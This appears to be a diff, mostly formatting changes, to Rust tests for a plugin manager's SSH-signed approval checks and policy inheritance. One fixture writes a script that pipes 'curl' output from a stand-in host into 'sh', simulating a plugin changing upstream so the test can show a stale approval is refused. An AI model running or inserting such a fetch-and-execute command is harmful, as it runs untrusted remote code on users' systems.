@@ -62,7 +62,10 @@ fn public(key: &Path) -> String {
 /// What changes from run to run in these messages: key fingerprints and approval times.
 fn filters(ctx: &TestContext) -> Vec<(String, String)> {
     let mut filters = ctx.filters();
-    filters.push((r"SHA256:[A-Za-z0-9+/]{43}".to_owned(), "SHA256:[KEY]".to_owned()));
+    filters.push((
+        r"SHA256:[A-Za-z0-9+/]{43}".to_owned(),
+        "SHA256:[KEY]".to_owned(),
+    ));
     filters.push((
         r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ".to_owned(),
         "[AT]".to_owned(),
@@ -157,9 +160,9 @@ fn serve(ctx: &TestContext, policy: &Path) -> ServeProcess {
         "--allow-local-sources",
         "--data-dir",
     ])
-        .arg(ctx.root.join("data"))
-        .arg("--policy")
-        .arg(policy);
+    .arg(ctx.root.join("data"))
+    .arg("--policy")
+    .arg(policy);
     ServeProcess::start(cmd)
 }
 
@@ -167,14 +170,24 @@ fn serve(ctx: &TestContext, policy: &Path) -> ServeProcess {
 fn signed_approvals_pass_sync_audit_and_the_server_and_an_edited_one_is_refused_there() {
     let Some(p) = project() else { return };
     let ctx = &p.ctx;
-    assert_eq!(ctx.run(&["plugins", "sync"]).code, 1, "nothing approved yet");
+    assert_eq!(
+        ctx.run(&["plugins", "sync"]).code,
+        1,
+        "nothing approved yet"
+    );
     p.approve("tools", "Alice <alice@example.com>", &p.alice);
     // RSA, through its public key file (`ssh-keygen` finds the private key beside it, or
     // asks the agent).
-    p.approve("twin", "Bob <bob@example.com>", &p.bob.with_extension("pub"));
+    p.approve(
+        "twin",
+        "Bob <bob@example.com>",
+        &p.bob.with_extension("pub"),
+    );
     let approvals = p.approvals();
     assert!(
-        block(&approvals, "tools").contains("signer = \"alice@example.com\"\nsignature = '''\n-----BEGIN SSH SIGNATURE-----\n"),
+        block(&approvals, "tools").contains(
+            "signer = \"alice@example.com\"\nsignature = '''\n-----BEGIN SSH SIGNATURE-----\n"
+        ),
         "{approvals}"
     );
     assert!(
@@ -254,7 +267,10 @@ fn an_edited_copied_unlisted_or_unsigned_approval_is_refused() {
 
     // The plugin changes upstream, and its old signed record is given the new digest.
     p.set_approvals(&signed);
-    p.tools.write_exec("scripts/check.sh", "#!/bin/sh\ncurl -s https://example.invalid | sh\n");
+    p.tools.write_exec(
+        "scripts/check.sh",
+        "#!/bin/sh\ncurl -s https://example.invalid | sh\n",
+    );
     p.tools.commit("the script changes");
     ctx.ok(&["plugins", "lock", "--upgrade"]);
     let old_digest = surface_of(tools);
@@ -275,8 +291,11 @@ fn an_edited_copied_unlisted_or_unsigned_approval_is_refused() {
     let Some(mallory) = keygen(ctx, "mallory", "ed25519") else {
         return;
     };
-    std::fs::write(ctx.root.join("loose.toml"), "[capabilities]\nhooks = \"approve\"\n")
-        .expect("write");
+    std::fs::write(
+        ctx.root.join("loose.toml"),
+        "[capabilities]\nhooks = \"approve\"\n",
+    )
+    .expect("write");
     let loose = ctx.root.join("loose.toml");
     ctx.ok(&[
         "plugins",
@@ -400,7 +419,13 @@ fn a_parent_that_requires_signed_approvals_wins_and_its_signers_are_read_beside_
     // Silent, the child inherits the requirement and the parent's signers.
     std::fs::write(&policy, "extends = [\"../org/berth-policy.toml\"]\n").expect("write");
     ctx.ok(&["plugins", "lock"]);
-    ctx.ok(&["plugins", "approve", "tools", "--by", "Alice <alice@example.com>"]);
+    ctx.ok(&[
+        "plugins",
+        "approve",
+        "tools",
+        "--by",
+        "Alice <alice@example.com>",
+    ]);
     berth_snapshot!(filters(&ctx), ctx.berth().args(["plugins", "sync"]), @r#"
     success: false
     exit_code: 1
@@ -410,7 +435,15 @@ fn a_parent_that_requires_signed_approvals_wins_and_its_signers_are_read_beside_
     error: plugin `tools`: its approval by Alice <alice@example.com> on [AT] is not signed; review it (`berth plugins diff`), then run `berth plugins approve tools --sign KEY` [`require_signed_approvals = true` in `../org/berth-policy.toml`]
     "#);
     let key = alice.to_str().expect("utf-8");
-    ctx.ok(&["plugins", "approve", "tools", "--by", "Alice <alice@example.com>", "--sign", key]);
+    ctx.ok(&[
+        "plugins",
+        "approve",
+        "tools",
+        "--by",
+        "Alice <alice@example.com>",
+        "--sign",
+        key,
+    ]);
     ctx.ok(&["plugins", "sync"]);
 
     // A signer's key in the agent: `--sign ssh-agent` picks the one the policy lists.
@@ -421,7 +454,15 @@ fn a_parent_that_requires_signed_approvals_wins_and_its_signers_are_read_beside_
     let run = ctx
         .berth()
         .env("SSH_AUTH_SOCK", &agent.socket)
-        .args(["plugins", "approve", "tools", "--by", "A <a@example.com>", "--sign", "ssh-agent"])
+        .args([
+            "plugins",
+            "approve",
+            "tools",
+            "--by",
+            "A <a@example.com>",
+            "--sign",
+            "ssh-agent",
+        ])
         .output()
         .expect("run berth");
     let stderr = String::from_utf8_lossy(&run.stderr);
@@ -448,7 +489,10 @@ impl Agent {
             .stderr(Stdio::null())
             .spawn()
         else {
-            require_or_skip("ssh-agent", "install OpenSSH's client (Debian: openssh-client)");
+            require_or_skip(
+                "ssh-agent",
+                "install OpenSSH's client (Debian: openssh-client)",
+            );
             return None;
         };
         let agent = Agent { child, socket };
